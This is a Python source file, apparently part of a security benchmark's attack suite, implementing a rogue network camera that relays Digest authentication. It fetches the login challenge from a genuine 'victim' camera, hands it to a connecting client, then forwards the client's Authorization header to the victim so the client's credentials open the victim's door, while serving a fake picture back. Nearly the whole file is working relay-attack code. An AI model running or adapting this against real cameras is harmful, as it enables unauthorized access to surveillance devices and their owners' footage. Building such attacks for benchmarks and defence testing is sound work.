"""Device that hands on the challenge of a genuine camera, and the answer to it: a login proof for another's door.

Nobody is between anybody: the rogue opens a connection of its own to the genuine camera. Settings: ``address``,
``mac``, ``victim`` (address of the genuine camera), ``snapshot``, ``stream``.
"""

from __future__ import annotations

import asyncio
import re
from dataclasses import dataclass

from benchmarks.attacks.rogues.device import Answer, Device, Request, serve, settings, tell
from benchmarks.attacks.rogues.newcomer import PICTURE, PRE_AUTH


async def ask(victim: str, method: str, target: str, headers: str, body: bytes) -> tuple[int, str]:
    """One request of our own to the genuine camera: its status and its head."""
    reader, writer = await asyncio.open_connection(victim, 80)
    try:
        head = f"{method} {target} HTTP/1.1\r\nHost: {victim}\r\nContent-Length: {len(body)}\r\n{headers}\r\n"
        writer.write(head.encode("latin-1") + body)
        answer = await reader.readuntil(b"\r\n\r\n")
    finally:
        writer.close()
    return int(answer.split(b" ", 2)[1]), answer.decode("latin-1")


@dataclass
class Relay(Device):
    """:ivar victim: address of the camera whose login is wanted."""

    victim: str = ""

    async def answer_later(self, request: Request) -> Answer:
        if request.operation in PRE_AUTH:
            return self.open_answer(request)
        if request.authorization:
            status, _ = await ask(
                self.victim,
                request.method,
                request.target,
                f"Content-Type: application/soap+xml\r\nAuthorization: {request.authorization}\r\n",
                request.body,
            )
            tell("relayed", status=status, method=request.method, target=request.target)
            if request.operation:
                return self.open_answer(request)
            return Answer(200, PICTURE, content_type="image/jpeg")
        _, head = await ask(self.victim, request.method, request.target, "", request.body)
        challenge = re.search(r"(?im)^WWW-Authenticate:\s*(Digest [^\r]*)", head)
        if challenge is None:
            tell("no challenge", head=head[:80])
            return Answer(404, b"", content_type="text/plain")
        return Answer(401, b"", (("WWW-Authenticate", challenge.group(1)),))


def main() -> None:
    given = settings()
    device = Relay(
        given["address"],
        mac=given["mac"],
        victim=given["victim"],
        profiles=(("main", "main", given["stream"]),),
        snapshot=given["snapshot"],
    )
    asyncio.run(serve([device], hello_every=5.0))


if __name__ == "__main__":
    main()
